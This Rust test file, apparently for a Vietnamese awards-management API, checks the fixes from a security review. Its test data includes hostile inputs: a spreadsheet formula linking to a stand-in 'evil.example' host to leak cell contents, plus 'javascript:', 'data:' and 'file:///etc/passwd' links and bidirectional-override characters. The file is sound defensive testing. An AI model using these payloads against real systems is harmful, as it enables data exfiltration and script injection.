//! The outside review's findings (issue 12), each reproduced as it was found
//! and answered as it must be now: C2 data on every read route, CSV formula
//! injection, action bodies, arrays posing as objects, text and links that
//! are stored, and no database object named in an answer.

use actix_web::http::Method;
use serde_json::{Value, json};
use thidua::auth::Role;
use uuid::Uuid;

use crate::helpers::{TestApp, TestResponse, assert_problem, raw_exchange};
use crate::pledges::{World, draft, in_force, this_year, world};

async fn put(app: &TestApp, path: &str, token: &str, body: Value) -> TestResponse {
    app.send(TestApp::req(Method::PUT, path, Some(token)).set_json(body))
        .await
}

/// A service client registered by the admin, and a token for it.
async fn client_token(app: &TestApp, admin: &str, id: &str, org: Option<Uuid>) -> String {
    let created = app
        .post(
            "/api/v1/clients",
            admin,
            json!({"clientId": id, "name": "Hệ thống khác", "scopes": ["read"], "organizationId": org}),
        )
        .await;
    assert_eq!(created.status, 201, "{}", created.text());
    let secret = created.json()["clientSecret"].as_str().unwrap().to_string();
    let res = app
        .send(
            TestApp::req(Method::POST, "/api/v1/auth/token", None).set_json(
                json!({"grantType": "client_credentials", "clientId": id, "clientSecret": secret}),
            ),
        )
        .await;
    res.json()["accessToken"].as_str().unwrap().to_string()
}

/// A bloc of two for this year with a drafted pledge.
async fn with_draft(app: &TestApp) -> (World, String) {
    let w = world(app, 2, this_year()).await;
    let id = draft(app, &w, this_year()).await["id"]
        .as_str()
        .unwrap()
        .to_string();
    (w, id)
}

/// Does any stored answer in this body carry C2 figures or sentences?
fn shows_c2(body: &Value) -> bool {
    let text = body.to_string();
    text.contains("canh_cao") || text.contains("underInvestigation") || text.contains("\"figures\"")
}

/// Issue 12, item 1, as reproduced: an officer of unit B records facts with
/// a warning and an open investigation for a person and drafts a proposal
/// for them; the board decides it with an override. Every route that
/// returns the stored answers — the proposal list and the proposal, the
/// decision, the person's and the organisation's award history — shows the
/// figures to the admin and to B's own users, and the outcome only (no
/// checks, `redacted`) to an officer of unit A, a viewer bound to no unit and
/// `read` clients (unbound, or bound to A).
#[actix_web::test]
async fn c2_answers_on_every_read_route_are_figures_for_the_own_unit_and_outcome_for_others() {
    let app = TestApp::spawn().await;
    let admin = app.admin().await;
    let unit_a = app.org("DVA", None);
    let unit_b = app.org("DVB", None);
    let sub_b = app.org("DVB-P1", Some(unit_b));
    let officer_b = app.member_token("dvb.officer", Role::Officer, unit_b);
    let person = app
        .post(
            "/api/v1/people",
            &officer_b,
            json!({"fullName": "Nguyễn Văn Bình", "organizationId": sub_b, "category": "cong_chuc"}),
        )
        .await
        .json()["id"]
        .as_str()
        .unwrap()
        .parse::<Uuid>()
        .unwrap();
    let facts = put(
        &app,
        &format!("/api/v1/organizations/{unit_b}/facts/2024"),
        &officer_b,
        json!({"people": [{"personId": person, "rating": "htt", "registered": true, "monthsEmployed": 12,
                           "absentDays": 3, "discipline": "canh_cao", "disciplineUntil": "2099-12-31",
                           "underInvestigation": true}]}),
    )
    .await;
    assert_eq!(facts.status, 200, "{}", facts.text());
    let proposal = app
        .post(
            "/api/v1/proposals",
            &officer_b,
            json!({"organizationId": unit_b, "year": 2024, "title": "Đề nghị LĐTT 2024",
                   "items": [{"awardType": "ldtt", "personId": person}]}),
        )
        .await;
    assert_eq!(proposal.status, 201, "{}", proposal.text());
    assert!(shows_c2(&proposal.json()), "the proposer sees its answer");
    let proposal_id = proposal.json()["id"].as_str().unwrap().to_string();
    let decision = app
        .post(
            "/api/v1/decisions",
            &admin,
            json!({"number": "21/QĐ-UBND", "decidedOn": "2025-01-20", "signer": "Chủ tịch UBND tỉnh",
                   "issuingBody": "UBND tỉnh Vĩnh Phúc", "year": 2024,
                   "awards": [{"awardType": "ldtt", "personId": person}],
                   "overrideReason": "Quyết định trên giấy số 21, nhập lại"}),
        )
        .await;
    assert_eq!(decision.status, 201, "{}", decision.text());
    let decision_id = decision.json()["id"].as_str().unwrap().to_string();

    let routes = [
        "/api/v1/proposals?year=2024".to_string(),
        format!("/api/v1/proposals/{proposal_id}"),
        format!("/api/v1/decisions/{decision_id}"),
        format!("/api/v1/people/{person}/awards"),
        format!("/api/v1/organizations/{sub_b}/awards"),
    ];
    // The organisation's history needs an award of the organisation itself.
    let flag = app
        .post(
            "/api/v1/decisions",
            &admin,
            json!({"number": "22/QĐ-UBND", "decidedOn": "2025-01-21", "signer": "Chủ tịch UBND tỉnh",
                   "issuingBody": "UBND tỉnh Vĩnh Phúc", "year": 2024,
                   "awards": [{"awardType": "ttldtt", "organizationId": sub_b}],
                   "overrideReason": "Quyết định trên giấy số 22, nhập lại"}),
        )
        .await;
    assert_eq!(flag.status, 201, "{}", flag.text());

    let sub_viewer = app.member_token("dvbp1.viewer", Role::Viewer, sub_b);
    let officer_a = app.member_token("dva.officer", Role::Officer, unit_a);
    let (_, unbound_viewer) = app.user("viewer.khong.don.vi", &[Role::Viewer], None).await;
    let read_client = client_token(&app, &admin, "egov-read", None).await;
    let read_client_a = client_token(&app, &admin, "dva-read", Some(unit_a)).await;
    let read_client_b = client_token(&app, &admin, "dvb-read", Some(unit_b)).await;

    let full = [
        ("admin", &admin),
        ("unit B officer", &officer_b),
        ("B's sub-unit viewer", &sub_viewer),
        ("client bound to B", &read_client_b),
    ];
    let outcome_only = [
        ("unit A officer", &officer_a),
        ("viewer with no unit", &unbound_viewer),
        ("unbound read client", &read_client),
        ("client bound to A", &read_client_a),
    ];
    for path in &routes {
        for (who, token) in full {
            let res = app.get(path, token).await;
            assert_eq!(res.status, 200, "{who} {path}: {}", res.text());
            assert!(shows_c2(&res.json()), "{who} reads the figures on {path}");
        }
        for (who, token) in outcome_only {
            let res = app.get(path, token).await;
            assert_eq!(res.status, 200, "{who} {path}: {}", res.text());
            let body = res.json();
            assert!(
                !shows_c2(&body),
                "{who} must not read C2 data on {path}: {body}"
            );
            assert!(
                body.to_string().contains("\"redacted\":true"),
                "{who} on {path} is told the answer is redacted: {body}"
            );
        }
    }
    // The routes that are nothing but C2 data stay closed to others.
    for (who, token) in outcome_only {
        let res = app
            .get(&format!("/api/v1/organizations/{unit_b}/facts/2024"), token)
            .await;
        assert_problem(&res, 403, "not_your_organization");
        let res = app
            .post(
                "/api/v1/eligibility-checks",
                token,
                json!({"personId": person, "awardType": "ldtt", "year": 2024}),
            )
            .await;
        assert!(
            res.status == 403,
            "{who}: eligibility-checks {} {}",
            res.status,
            res.text()
        );
    }
}

/// Item 5: a label or a unit name starting with `=`, `+`, `-`, `@`, TAB or
/// CR reaches the compliance, ranking and audit CSVs as text, never as a
/// formula.
#[actix_web::test]
async fn csv_exports_neutralise_cells_that_would_run_as_formulas() {
    let app = TestApp::spawn().await;
    let w = world(&app, 2, this_year()).await;
    let pledge = in_force(&app, &w, this_year()).await["id"]
        .as_str()
        .unwrap()
        .to_string();
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm\")";
    app.sql(&format!(
        "UPDATE pledge_targets SET label = '{}' WHERE pledge_id = '{}';
         UPDATE organizations SET name = '@SUM(1+1)' WHERE id = '{}'",
        evil.replace('\'', "''"),
        pledge,
        w.units[0]
    ));
    let csv = |path: String| {
        let app = &app;
        let admin = w.admin.clone();
        async move {
            let res = app
                .send(
                    TestApp::req(Method::GET, &path, Some(&admin))
                        .insert_header(("accept", "text/csv")),
                )
                .await;
            assert_eq!(res.status, 200, "{path}: {}", res.text());
            res.text()
        }
    };
    let compliance = csv(format!("/api/v1/pledges/{pledge}/compliance")).await;
    assert!(compliance.contains("'=HYPERLINK"), "{compliance}");
    assert!(compliance.contains("'@SUM(1+1)"), "{compliance}");
    for line in compliance.lines() {
        for cell in line.trim_start_matches('\u{feff}').split(',') {
            let cell = cell.trim_start_matches('"');
            assert!(
                !cell.starts_with(['=', '+', '@', '\t', '\r']),
                "a formula cell in {line}"
            );
        }
    }
    let audit = csv("/api/v1/audit?limit=200".into()).await;
    assert!(!audit.lines().any(|l| {
        l.split(',')
            .any(|c| c.trim_start_matches('"').starts_with('='))
    }));
}

/// Item 6: `open`, `close`, `withdraw` and a score sheet's `submit` take no
/// body or a valid one. Malformed JSON, an unknown field, an over-long
/// reason and a wrong content type are refused and change nothing; an empty
/// body still works, and a given reason reaches the audit row.
#[actix_web::test]
async fn action_bodies_are_validated_and_nothing_changes_on_a_bad_one() {
    let app = TestApp::spawn().await;
    let (w, pledge) = with_draft(&app).await;
    let path = format!("/api/v1/pledges/{pledge}/open");
    let raw = |ct: &str, body: &str| {
        TestApp::req(Method::POST, &path, Some(&w.admin))
            .insert_header(("content-type", ct.to_string()))
            .set_payload(body.to_string())
    };
    let long = "x".repeat(2001);
    for (req, status, code) in [
        (
            raw("application/json", "{\"reason\": "),
            400,
            "malformed_json",
        ),
        (
            raw(
                "application/json",
                "{\"reason\": \"a\", \"status\": \"in_force\"}",
            ),
            422,
            "validation_failed",
        ),
        (
            raw("application/json", &format!("{{\"reason\": \"{long}\"}}")),
            422,
            "validation_failed",
        ),
        (
            raw("text/plain", "{\"reason\": \"a\"}"),
            415,
            "unsupported_media_type",
        ),
        (
            raw("application/json", "[\"a\"]"),
            400,
            "body_not_an_object",
        ),
    ] {
        assert_problem(&app.send(req).await, status, code);
    }
    let status = |app: &TestApp| {
        app.count(&format!(
            "SELECT count(*) AS n FROM pledges WHERE id = '{pledge}' AND status = 'draft'"
        ))
    };
    assert_eq!(status(&app), 1, "nothing changed");
    // An empty body is allowed.
    let res = app
        .send(TestApp::req(Method::POST, &path, Some(&w.admin)))
        .await;
    assert_eq!(res.status, 200, "{}", res.text());
    // And a reason given is kept.
    let res = app
        .post(
            &format!("/api/v1/pledges/{pledge}/withdraw"),
            &w.admin,
            json!({"reason": "Hội nghị lùi sang quý II"}),
        )
        .await;
    assert_eq!(res.status, 200, "{}", res.text());
    assert_eq!(
        app.count(
            "SELECT count(*) AS n FROM audit_log WHERE action = 'pledge.withdrawn' AND reason = 'Hội nghị lùi sang quý II'"
        ),
        1
    );
}

/// Item 10: serde lets a JSON array fill a struct's fields in order, around
/// `deny_unknown_fields`; a body whose top level is not an object is 400
/// `body_not_an_object`. Every body type of the document is tried with an
/// array; none is accepted.
#[actix_web::test]
async fn a_json_array_never_passes_for_an_object_body() {
    let app = TestApp::spawn().await;
    let admin = app.admin().await;
    let res = app
        .send(
            TestApp::req(Method::POST, "/api/v1/users", Some(&admin)).set_json(json!([
                "arr.admin",
                "Arr Admin",
                null,
                ["admin"],
                "password-1234567"
            ])),
        )
        .await;
    assert_problem(&res, 400, "body_not_an_object");
    assert_eq!(
        app.count("SELECT count(*) AS n FROM users WHERE username = 'arr.admin'"),
        0
    );
    // Every operation of the document that takes a JSON body.
    let doc: Value = serde_json::from_str(&thidua::api::openapi::render_doc(
        &thidua::api::openapi::document(),
    ))
    .unwrap();
    let mut tried = 0;
    for (path, ops) in doc["paths"].as_object().unwrap() {
        for (method, op) in ops.as_object().unwrap() {
            let Some(content) = op["requestBody"]["content"].as_object() else {
                continue;
            };
            if !content.contains_key("application/json") {
                continue;
            }
            let concrete = path
                .split('/')
                .map(|seg| {
                    if seg == "{year}" {
                        "2024".to_string()
                    } else if seg.starts_with('{') {
                        Uuid::now_v7().to_string()
                    } else {
                        seg.to_string()
                    }
                })
                .collect::<Vec<_>>()
                .join("/");
            let m = Method::from_bytes(method.to_uppercase().as_bytes()).unwrap();
            let res = app
                .send(TestApp::req(m, &concrete, Some(&admin)).set_json(json!([null, null])))
                .await;
            assert!(
                res.status == 400 && res.code() == "body_not_an_object",
                "{method} {path}: {} {}",
                res.status,
                res.text()
            );
            tried += 1;
        }
    }
    assert!(tried >= 40, "only {tried} body operations found");
}

/// Items 8 and 11: what is stored is validated — a whitespace-only name is a
/// 422 `validation_failed` naming its field, never a 409 naming a CHECK
/// constraint; names refuse control, zero-width and bidirectional control
/// characters; links are `http:` or `https:` only; dates lie in 1900–2100;
/// an unknown organisation on a user or client is 422 `unknown_organization`.
/// No answer names a database object.
#[actix_web::test]
async fn stored_text_is_validated_and_no_answer_names_a_database_object() {
    let app = TestApp::spawn().await;
    let (w, pledge) = with_draft(&app).await;
    let admin = w.admin.clone();
    let unit = w.units[0];
    let blank = "   ";
    let params = app.get("/api/v1/rule-sets", &admin).await.json()["items"][0]["params"].clone();
    let cases: Vec<(Method, String, Value, &str)> = vec![
        (
            Method::POST,
            "/api/v1/people".into(),
            json!({"fullName": blank, "organizationId": unit, "category": "vien_chuc"}),
            "fullName",
        ),
        (
            Method::POST,
            "/api/v1/blocs".into(),
            json!({"code": "KHOI-X", "name": blank, "kind": "khoi"}),
            "name",
        ),
        (
            Method::POST,
            "/api/v1/users".into(),
            json!({"username": "u.blank", "fullName": blank, "roles": ["viewer"], "password": "0123456789ab"}),
            "fullName",
        ),
        (
            Method::POST,
            "/api/v1/clients".into(),
            json!({"clientId": "c-blank", "name": blank, "scopes": ["read"]}),
            "name",
        ),
        (
            Method::POST,
            "/api/v1/organizations".into(),
            json!({"code": "BLANK", "name": blank, "kind": "department"}),
            "name",
        ),
        (
            Method::POST,
            "/api/v1/organizations".into(),
            json!({"code": "ZWSP", "name": "Sở\u{200b}Y tế", "kind": "department"}),
            "name",
        ),
        (
            Method::POST,
            "/api/v1/organizations".into(),
            json!({"code": "BIDI", "name": "Sở \u{202e}ết Y", "kind": "department"}),
            "name",
        ),
        (
            Method::POST,
            "/api/v1/organizations".into(),
            json!({"code": "CTRL", "name": "Sở\u{7}Y tế", "kind": "department"}),
            "name",
        ),
        (
            Method::POST,
            "/api/v1/organizations".into(),
            json!({"code": "OLD", "name": "Sở cũ", "kind": "department", "validFrom": "1899-12-31"}),
            "validFrom",
        ),
        (
            Method::POST,
            "/api/v1/proposals".into(),
            json!({"organizationId": unit, "year": 2024, "title": blank, "items": []}),
            "title",
        ),
        (
            Method::PUT,
            format!("/api/v1/pledges/{pledge}/items"),
            json!({"items": [{"text": blank, "targets": []}]}),
            "items[0].text",
        ),
        (
            Method::POST,
            "/api/v1/rule-sets".into(),
            json!({"code": "vp-blank", "name": blank, "scope": "province", "legalBasis": "QĐ 1", "effectiveFrom": "2024-01-01", "params": params}),
            "name",
        ),
    ];
    for (method, path, body, field) in cases {
        let res = app
            .send(TestApp::req(method.clone(), &path, Some(&admin)).set_json(body))
            .await;
        assert_problem(&res, 422, "validation_failed");
        let fields: Vec<String> = res.problem()["errors"]
            .as_array()
            .unwrap()
            .iter()
            .filter_map(|e| e["field"].as_str().map(String::from))
            .collect();
        assert!(
            fields.iter().any(|f| f == field),
            "{method} {path}: {field} not in {fields:?}"
        );
    }
    // Links: only http(s).
    for url in [
        "javascript:alert(1)",
        "data:text/html,<b>x</b>",
        "file:///etc/passwd",
    ] {
        let res = app
            .post(
                &format!("/api/v1/pledges/{pledge}/reports"),
                &admin,
                json!({"period": "Q1", "organizationId": unit, "reports": [{"targetId": Uuid::now_v7(), "done": true, "evidence": [url]}]}),
            )
            .await;
        assert_problem(&res, 422, "validation_failed");
        assert!(res.text().contains("reports[0].evidence"), "{}", res.text());
    }
    // An unknown organisation on a user or a client: 422, as everywhere else.
    let nowhere = Uuid::now_v7();
    let res = app
        .post(
            "/api/v1/users",
            &admin,
            json!({"username": "u.nowhere", "fullName": "Ai đó", "roles": ["officer"], "organizationId": nowhere, "password": "0123456789ab"}),
        )
        .await;
    assert_problem(&res, 422, "unknown_organization");
    let res = app
        .post(
            "/api/v1/clients",
            &admin,
            json!({"clientId": "c-nowhere", "name": "Hệ thống", "scopes": ["read"], "organizationId": nowhere}),
        )
        .await;
    assert_problem(&res, 422, "unknown_organization");
    assert!(!res.text().contains("_fk"), "{}", res.text());
    // An organisation cannot be its own parent, nor end before it starts.
    let res = app
        .patch(
            &format!("/api/v1/organizations/{unit}"),
            &admin,
            None,
            json!({"parentId": unit}),
        )
        .await;
    assert_problem(&res, 422, "invalid_parent");
    let res = app
        .post(
            "/api/v1/organizations",
            &admin,
            json!({"code": "NGUOC", "name": "Sở ngược", "kind": "department", "validFrom": "2024-01-01", "validTo": "2023-12-31"}),
        )
        .await;
    assert_problem(&res, 422, "invalid_dates");
}

/// Item 8, on the catalogue (issue 13): every code the committed spec lists
/// is one the server has (`ErrorCode`), and every code the server can answer
/// over HTTP is listed in the spec.
#[test]
fn every_code_the_spec_lists_is_in_the_catalogue_and_every_catalogue_code_is_listed() {
    use std::collections::BTreeSet;
    use thidua::error::ErrorCode;
    let spec: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/openapi/openapi.json"))
            .unwrap(),
    )
    .unwrap();
    let listed = codes_listed_in(&spec);
    let catalogue: BTreeSet<String> = ErrorCode::ALL
        .iter()
        .filter(|c| !c.command_line_only())
        .map(|c| c.as_str().to_string())
        .collect();
    let unknown: Vec<&String> = listed.difference(&catalogue).collect();
    assert!(
        unknown.is_empty(),
        "the spec lists codes the catalogue does not have: {unknown:?}"
    );
    let unlisted: Vec<&String> = catalogue.difference(&listed).collect();
    assert!(
        unlisted.is_empty(),
        "catalogue codes the spec never lists: {unlisted:?}"
    );
}

/// The problem codes the document names: the backquoted `snake_case` words
/// of every 4xx/5xx response's description, outside parentheses (which
/// describe the listed fields: `not_staff`, `duplicate`), and those of the
/// document's "Any operation may also answer" paragraph.
fn codes_listed_in(spec: &serde_json::Value) -> std::collections::BTreeSet<String> {
    let code = regex::Regex::new(r"`([a-z][a-z0-9_]*)`").unwrap();
    let mut out = std::collections::BTreeSet::new();
    let mut take = |text: &str| {
        out.extend(code.captures_iter(text).map(|c| c[1].to_string()));
    };
    for op in spec["paths"]
        .as_object()
        .unwrap()
        .values()
        .flat_map(|p| p.as_object().unwrap().values())
    {
        let Some(responses) = op.get("responses").and_then(|r| r.as_object()) else {
            continue;
        };
        for (status, response) in responses {
            if status.as_str() >= "400" {
                let description = response["description"].as_str().unwrap_or("");
                take(&outside_parentheses(description));
            }
        }
    }
    let info = spec["info"]["description"].as_str().unwrap();
    let common = info
        .split("\n\n")
        .find(|p| p.starts_with("Any operation may also answer"))
        .expect("the document lists the codes any operation may answer");
    take(common);
    out
}

fn outside_parentheses(text: &str) -> String {
    let mut depth = 0usize;
    text.chars()
        .filter(|c| match c {
            '(' => {
                depth += 1;
                false
            }
            ')' => {
                depth = depth.saturating_sub(1);
                false
            }
            _ => depth == 0,
        })
        .collect()
}

/// Item 8: the HTTP codec's own answers — a URI too long, too many headers,
/// a request line it cannot parse — are problem+json with a stable code like
/// every other error (vendor/actix-http/THIDUA-PATCH.md).
#[actix_web::test]
async fn codec_errors_answer_problem_json() {
    let app = TestApp::spawn().await;
    let long_uri = format!(
        "GET /api/v1/organizations?q={} HTTP/1.1\r\nHost: x\r\n\r\n",
        "a".repeat(200_000)
    );
    let mut many = String::from("GET /health/live HTTP/1.1\r\nHost: x\r\n");
    for i in 0..120 {
        many.push_str(&format!("X-H-{i}: v\r\n"));
    }
    many.push_str("\r\n");
    for (request, status, code) in [
        (long_uri, "431", "request_head_too_large"),
        (many, "431", "request_head_too_large"),
        (
            "GET /\u{1} HTTP/1.1\r\n\r\n".to_string(),
            "400",
            "malformed_request",
        ),
    ] {
        let answer = raw_exchange(&app, request.into_bytes()).await;
        let (head, body) = answer.split_once("\r\n\r\n").unwrap_or((&answer, ""));
        assert!(head.starts_with(&format!("HTTP/1.1 {status}")), "{head}");
        assert!(
            head.to_ascii_lowercase()
                .contains("content-type: application/problem+json"),
            "{head}"
        );
        let problem: Value = serde_json::from_str(body).unwrap_or_else(|e| panic!("{e}: {body}"));
        assert_eq!(problem["code"], code);
        assert_eq!(problem["status"].as_u64().unwrap().to_string(), status);
    }
}

/// Item 8: a 413 names the configured limit, whichever layer refused the
/// body (the JSON extractor, or the idempotency middleware reading it first).
#[actix_web::test]
async fn payload_too_large_names_the_real_limit() {
    let app = TestApp::spawn().await;
    let admin = app.admin().await;
    let limit = app.state.config.body_limit;
    let big = json!({"code": "BIG", "name": "x".repeat(limit + 10), "kind": "department"});
    for key in [None, Some("k-413")] {
        let mut req = TestApp::req(Method::POST, "/api/v1/organizations", Some(&admin))
            .insert_header(("accept-language", "en"))
            .set_json(big.clone());
        if let Some(k) = key {
            req = req.insert_header(("idempotency-key", k));
        }
        let res = app.send(req).await;
        assert_problem(&res, 413, "payload_too_large");
        assert!(
            res.problem()["detail"]
                .as_str()
                .unwrap()
                .contains(&limit.to_string()),
            "{key:?}: {}",
            res.text()
        );
    }
}
